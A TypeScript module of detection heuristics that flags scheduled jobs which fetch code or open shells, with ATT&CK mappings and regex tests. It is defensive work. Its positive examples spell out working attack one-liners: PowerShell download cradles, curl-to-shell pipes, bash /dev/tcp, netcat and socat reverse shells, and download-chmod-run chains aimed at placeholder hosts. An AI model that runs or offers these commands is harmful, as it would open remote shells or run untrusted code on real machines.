/** Jobs that fetch code or open shells: download cradles, pipes to a shell, reverse shells, raw-IP URLs. */
import { DOWNLOAD_PS, PIPE_TO_SHELL, REVERSE_SHELL } from './signals';
import type { Heuristic } from './types';

const hit = (id: string, detail: string) => ({ id, detail });
const clip = (s: string, n = 70) => (s.length > n ? `${s.slice(0, n)}…` : s);
const UNIX: Heuristic['appliesTo'] = ['cron', 'systemd_timer', 'launchd', 'at'];

const PRIVATE_OR_LOOPBACK = /^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0\.0\.0\.0|169\.254\.)/;

export const networkHeuristics: Heuristic[] = [
  {
    id: 'TL-NET-DOWNLOAD-CRADLE',
    title: 'PowerShell download cradle',
    explanation: 'DownloadString/DownloadFile, Net.WebClient, Invoke-WebRequest or BITS fetch code each time the job runs.',
    attack: 'T1105',
    family: 'network',
    severity: 5,
    appliesTo: ['windows_task', 'windows_autorun'],
    examples: {
      positive: [
        { command: 'powershell -c "(New-Object Net.WebClient).DownloadString(\'http://a/b\')|iex"' },
        { command: 'powershell -c iwr https://x.example/a.ps1 -OutFile $env:temp\\a.ps1' },
      ],
      negative: [{ command: 'powershell -File c:\\scripts\\cleanup.ps1' }, { command: 'C:\\Program Files\\Curl\\curl-updater.exe' }],
    },
    test(i) {
      const m = DOWNLOAD_PS.exec(i.command);
      return m ? hit(this.id, `downloads with ${clip(m[0], 50)}`) : null;
    },
  },
  {
    id: 'TL-NET-PIPE-TO-SHELL',
    title: 'curl/wget output piped into a shell or interpreter',
    explanation: 'curl ... | sh runs whatever the server returns today, with the job\'s privileges, leaving no file behind.',
    attack: 'T1105',
    family: 'network',
    severity: 5,
    examples: {
      positive: [
        { family: 'cron', command: 'curl -fsSL http://x.example/i.sh | sh' },
        { family: 'cron', command: 'wget -q -O- http://1.2.3.4/a | bash' },
        { family: 'cron', command: 'bash <(curl -s http://x/y)' },
      ],
      negative: [{ family: 'cron', command: 'curl -s https://hc-ping.com/abc > /dev/null' }, { family: 'cron', command: 'wget -q -O /var/lib/x.json https://x/y' }],
    },
    test(i) {
      const m = PIPE_TO_SHELL.exec(i.command);
      return m ? hit(this.id, `pipes a download into a shell: ${clip(m[0])}`) : null;
    },
  },
  {
    id: 'TL-NET-INLINE-DOWNLOAD',
    title: 'Inline interpreter code that downloads',
    explanation: 'python -c with urllib/requests or perl -e with LWP fetches and runs code without a script file.',
    attack: 'T1105',
    family: 'network',
    severity: 4,
    appliesTo: UNIX,
    examples: {
      positive: [
        { family: 'cron', command: 'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x/a\').read())"' },
        { family: 'cron', command: 'perl -MLWP::Simple -e \'getprint "http://x"\'' },
      ],
      negative: [{ family: 'cron', command: 'python3 /opt/app/fetch_urls.py' }],
    },
    test(i) {
      const inline = /\b(?:python[0-9.]*|perl|ruby|php[0-9.]*|node)\b[^|;]*\s-(?:c|e|r|M\S*)\s/.test(i.command);
      const m = inline ? /urllib|urlopen|requests\.get|LWP|Net::HTTP|open-uri|file_get_contents\s*\(\s*["']https?|https?\.get\(/.exec(i.command) : null;
      return m ? hit(this.id, `inline code downloads via ${m[0]}`) : null;
    },
  },
  {
    id: 'TL-NET-REVERSE-SHELL',
    title: 'Reverse shell pattern',
    explanation: '/dev/tcp redirections, nc -e, bash -i >&, socat exec: or socket+pty one-liners hand a shell to a remote host.',
    attack: 'T1059.004',
    family: 'network',
    severity: 5,
    reference: 'Sigma: Linux Reverse Shell Indicator (83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871)',
    examples: {
      positive: [
        { family: 'cron', command: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' },
        { family: 'cron', command: 'nc -e /bin/sh 1.2.3.4 443' },
        { family: 'cron', command: 'socat tcp:1.2.3.4:443 exec:/bin/bash,pty' },
        { family: 'cron', command: 'python -c \'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)\'' },
        { family: 'cron', command: 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 80 >/tmp/f' },
      ],
      negative: [{ family: 'cron', command: 'nc -z localhost 5432 || systemctl restart postgresql' }, { family: 'cron', command: 'bash -c "echo ok" > /dev/null' }],
    },
    test(i) {
      const m = REVERSE_SHELL.exec(i.command);
      return m ? hit(this.id, `reverse shell: ${clip(m[0], 50)}`) : null;
    },
  },
  {
    id: 'TL-NET-RAW-IP-URL',
    title: 'URL with a raw IP address',
    explanation: 'Legitimate software uses host names; a scheduled fetch from http://<public IP>/ is typical of staging servers.',
    attack: 'T1105',
    family: 'network',
    severity: 4,
    examples: {
      positive: [{ family: 'cron', command: 'wget http://45.9.148.1/x -O /tmp/x' }, { command: 'msiexec /i http://185.1.2.3:8080/a.msi /q' }],
      negative: [{ family: 'cron', command: 'curl -s http://127.0.0.1/cron.php' }, { family: 'cron', command: 'curl https://example.com/ping' }],
    },
    test(i) {
      for (const m of i.command.matchAll(/\b(?:https?|ftp|tftp):\/\/(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?/gi)) {
        if (!PRIVATE_OR_LOOPBACK.test(m[1])) return hit(this.id, `contacts ${m[0]}`);
      }
      return null;
    },
  },
  {
    id: 'TL-NET-PRIVATE-IP-URL',
    title: 'URL with a private-network IP address',
    explanation: 'An internal raw IP can be a lateral staging host; weaker than a public IP but still unusual for packaged software.',
    attack: 'T1570',
    family: 'network',
    severity: 1,
    examples: {
      positive: [{ family: 'cron', command: 'curl http://10.1.2.3:8000/a.sh -o /tmp/a.sh' }],
      negative: [{ family: 'cron', command: 'curl -s http://127.0.0.1/cron.php' }, { family: 'cron', command: 'curl http://intranet/a' }],
    },
    test(i) {
      for (const m of i.command.matchAll(/\b(?:https?|ftp|smb):\/\/(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?/gi)) {
        if (PRIVATE_OR_LOOPBACK.test(m[1]) && !/^127\./.test(m[1])) return hit(this.id, `contacts ${m[0]}`);
      }
      return null;
    },
  },
  {
    id: 'TL-NET-CHMOD-EXEC',
    title: 'Downloads or writes a file, makes it executable and runs it',
    explanation: 'chmod +x followed by executing the same file inside one job is the drop-and-run step of Unix malware.',
    attack: 'T1222.002',
    family: 'network',
    severity: 4,
    appliesTo: UNIX,
    examples: {
      positive: [
        { family: 'cron', command: 'wget -O /tmp/a http://x/a; chmod +x /tmp/a; /tmp/a' },
        { family: 'cron', command: 'curl -o /var/tmp/k http://x && chmod 777 /var/tmp/k && /var/tmp/k &' },
        { family: 'cron', command: 'cd /tmp && chmod u+x run && ./run' },
      ],
      negative: [{ family: 'cron', command: 'chmod +x /opt/app/run.sh' }, { family: 'cron', command: 'chmod 644 /etc/x && /usr/bin/x' }],
    },
    test(i) {
      const m = /\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rw]*x\w*|0?[0-7]?[1357][0-7]{2})\s+([^\s;&|]+)/.exec(i.command);
      if (!m) return null;
      const file = m[1].replace(/["']/g, '');
      const base = file.split('/').pop() ?? file;
      const rest = i.command.slice((m.index ?? 0) + m[0].length);
      const esc = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
      const runsIt = new RegExp(String.raw`(?:^|[;&|]\s*|\s)(?:${esc(file)}|\./${esc(base)}|(?:ba)?sh\s+\S*${esc(base)})(?=\s|$|[;&|])`).test(rest);
      return runsIt ? hit(this.id, `chmod +x ${file} then executes it`) : null;
    },
  },
];
